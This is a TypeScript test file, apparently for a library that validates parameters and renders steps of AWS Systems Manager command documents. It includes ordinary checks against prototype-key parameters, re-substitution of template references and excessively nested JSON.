    const error = validationErrorOf(() => validateParameters(PARAMETERS_DOCUMENT, parameters));
    expect(error.reason).toBe('DocumentParameters');
    expect(error.message).toContain(mention);
  });

  it('names every bad parameter in one error', () => {
    const error = validationErrorOf(() =>
      validateParameters(PARAMETERS_DOCUMENT, { commands: [], dryRun: ['maybe'], extra: ['1'] }),
    );
    expect(error.violations.map((violation) => violation.field)).toEqual(['extra', 'target', 'commands', 'dryRun']);
    expect(error.message).toBe(
      'Invalid parameters: extra: is not a parameter of this document; target: is required; ' +
        'commands: requires at least 1 value (got 0); dryRun: "maybe" is not a Boolean (true or false)',
    );
  });

  it('shortens a long bad value in the message', () => {
    const error = validationErrorOf(() =>
      validateParameters(PARAMETERS_DOCUMENT, { ...REQUIRED, target: ['x;'.repeat(1000)] }),
    );
    expect(error.message.length).toBeLessThan(300);
    expect(error.violations[0]?.value).toEqual(['x;'.repeat(1000)]);
  });

  it('does not take Object.prototype members for parameters', () => {
    const error = validationErrorOf(() =>
      validateParameters(
        PARAMETERS_DOCUMENT,
        JSON.parse('{"__proto__":["x"],"toString":["y"]}') as Record<string, string[]>,
      ),
    );
    expect(error.message).toContain('__proto__: is not a parameter of this document');
    expect(error.message).toContain('toString: is not a parameter of this document');
  });
});

describe('renderSteps', () => {
  const RENDER_DOCUMENT = parse({
    schemaVersion: '2.2',
    parameters: {
      commands: { type: 'StringList' },
      service: { type: 'String', default: 'nginx' },
      force: { type: 'Boolean', default: false },
      timeout: { type: 'Integer', default: 60 },
      env: { type: 'StringMap', default: { SSM_a: '1' } },
      hosts: { type: 'MapList', default: [{ name: 'a' }] },
      unused: { type: 'String', default: 'never referenced' },
    },
    mainSteps: [
      {
        action: 'aws:runShellScript',
        name: 'linux',
        precondition: { StringEquals: ['platformType', 'Linux'] },
        inputs: { runCommand: '{{ commands }}', workingDirectory: '/srv/{{service}}', timeoutSeconds: '{{ timeout }}' },
      },
      {
        action: 'aws:runPowerShellScript',
        name: 'windows',
        precondition: { StringEquals: ['platformType', 'Windows'] },
        inputs: { runCommand: ['Write-Output start', '{{commands}}', 'Write-Output end'] },
      },
      {
        action: 'aws:configurePackage',
        name: 'package',
        inputs: {
          name: '{{   service   }}',
          action: 'Install',
          additionalArguments: { SSM_force: '{{ force }}', SSM_env: '{{ env }}', SSM_hosts: ['{{ hosts }}', { x: 1 }] },
          version: 'v{{timeout}}-{{ commands }}-{{ env }}',
        },
      },
    ],
  });

  function render(given: Record<string, readonly string[]>) {
    return renderSteps(RENDER_DOCUMENT, validateParameters(RENDER_DOCUMENT, given));
  }

  it('turns a whole StringList reference into the list of command lines', () => {
    expect(render({ commands: ['cd /srv', 'make'] })[0]?.inputs['runCommand']).toEqual(['cd /srv', 'make']);
  });

  it('splices a StringList reference that is one element of a list', () => {
    expect(render({ commands: ['a', 'b'] })[1]?.inputs['runCommand']).toEqual([
      'Write-Output start',
      'a',
      'b',
      'Write-Output end',
    ]);
  });

  it('replaces references inside longer strings by their string form', () => {
    const [linux, , pkg] = render({ commands: ['a', 'b'], service: ['api'], timeout: ['90'], env: ['{"k":"v"}'] });
    expect(linux?.inputs['workingDirectory']).toBe('/srv/api');
    expect(pkg?.inputs['version']).toBe('v90-a,b-{"k":"v"}');
  });

  it('gives a whole Boolean, Integer, StringMap or String reference its typed value, spaces or not', () => {
    const [linux, , pkg] = render({ commands: ['x'], force: ['true'], timeout: ['5'] });
    expect(linux?.inputs['timeoutSeconds']).toBe(5);
    expect(pkg?.inputs['name']).toBe('nginx');
    expect(pkg?.inputs['additionalArguments']).toEqual({
      SSM_force: true,
      SSM_env: { SSM_a: '1' },
      SSM_hosts: [{ name: 'a' }, { x: 1 }],
    });
  });

  it('uses defaults for parameters the caller did not give', () => {
    const [linux, , pkg] = render({ commands: ['x'] });
    expect(linux?.inputs).toEqual({ runCommand: ['x'], workingDirectory: '/srv/nginx', timeoutSeconds: 60 });
    expect(pkg?.inputs['version']).toBe('v60-x-{"SSM_a":"1"}');
  });

  it('keeps step names and actions, and turns preconditions into platform types', () => {
    expect(
      render({ commands: ['x'] }).map(({ name, action, platformType }) => ({ name, action, platformType })),
    ).toEqual([
      { name: 'linux', action: 'aws:runShellScript', platformType: 'Linux' },
      { name: 'windows', action: 'aws:runPowerShellScript', platformType: 'Windows' },
      { name: 'package', action: 'aws:configurePackage', platformType: undefined },
    ]);
    expect(Object.hasOwn(render({ commands: ['x'] })[2]!, 'platformType')).toBe(false);
  });

  it('does not change the document it renders', () => {
    const before = JSON.stringify(RENDER_DOCUMENT.mainSteps);
    render({ commands: ['x'] });
    expect(JSON.stringify(RENDER_DOCUMENT.mainSteps)).toBe(before);
  });

  it('leaves look-alike braces in scripts untouched', () => {
    const document = parse(
      aDocument({
        mainSteps: [shellStep('run', { runCommand: ["docker ps --format '{{.Names}}'", '{{ commands }}'] })],
      }),
    );
    const [step] = renderSteps(document, validateParameters(document, { commands: ['{{ commands }}'] }));
    // A value is never substituted again: a caller cannot smuggle references through it.
    expect(step?.inputs['runCommand']).toEqual(["docker ps --format '{{.Names}}'", '{{ commands }}']);
  });

  it('refuses to render with parameters that were not resolved for this document', () => {
    expect(() => renderSteps(RENDER_DOCUMENT, new Map())).toThrow(/no resolved value for parameter commands/);
  });
});

describe('executionTimeoutSeconds', () => {
  const timeoutDocument = (definition: unknown) =>
    parse(
      aDocument({
        parameters: { executionTimeout: definition },
        mainSteps: [shellStep('run', { runCommand: 'true', timeoutSeconds: '{{ executionTimeout }}' })],
      }),
    );

  it('is 3600 when the document declares no executionTimeout', () => {
    const document = parse(aDocument());
    expect(executionTimeoutSeconds(document, validateParameters(document, { commands: ['x'] }))).toBe(
      DEFAULT_EXECUTION_TIMEOUT_SECONDS,
    );
  });

  it.each([
    ['the String default', { type: 'String', default: '7200' }, {}, 7200],
    ['a String the caller gives', { type: 'String', default: '3600' }, { executionTimeout: ['60'] }, 60],
    ['an Integer', { type: 'Integer', default: 900 }, {}, 900],
    ['a value that is not a number of seconds', { type: 'String', default: '1h' }, {}, 3600],
    ['zero', { type: 'Integer', default: 0 }, {}, 3600],
  ])('follows %s', (_title, definition, given, seconds) => {
    const document = timeoutDocument(definition);
    expect(executionTimeoutSeconds(document, validateParameters(document, given))).toBe(seconds);
  });
});

describe('describeParameters', () => {
  it('reports types as the API enum allows and defaults as strings', () => {
    expect(
      describeParameters(PARAMETERS_DOCUMENT).map(({ name, type, defaultValue }) => [name, type, defaultValue]),
    ).toEqual([
      ['target', 'String', undefined],
      ['commands', 'StringList', undefined],
      ['mode', 'String', 'safe'],
      ['executionTimeout', 'String', '3600'],
      ['dryRun', 'String', 'false'],
      ['retries', 'String', '3'],
      ['tags', 'String', '{}'],
      ['hosts', 'String', '[]'],
      ['label', 'String', 'ab'],
    ]);
  });
});

describe('nesting depth of JSON document content', () => {
  it('refuses content nested 10,000 deep as DocumentContent naming the limit', () => {
    const text = `{"schemaVersion":"2.2","mainSteps":${'['.repeat(10_000)}${']'.repeat(10_000)}}`;
    const error = validationErrorOf(() => parseCommandDocument(text, 'JSON'));
    expect(error.reason).toBe('DocumentContent');
    expect(error.message).toBe('Document content is nested deeper than 64 levels.');
  });

  it('does not count brackets inside JSON strings', () => {
    const text = JSON.stringify({
      schemaVersion: '2.2',
      mainSteps: [{ action: 'aws:runShellScript', name: 'run', inputs: { runCommand: ['['.repeat(500)] } }],
    });
    expect(() => parseCommandDocument(text, 'JSON')).not.toThrow();
  });
});
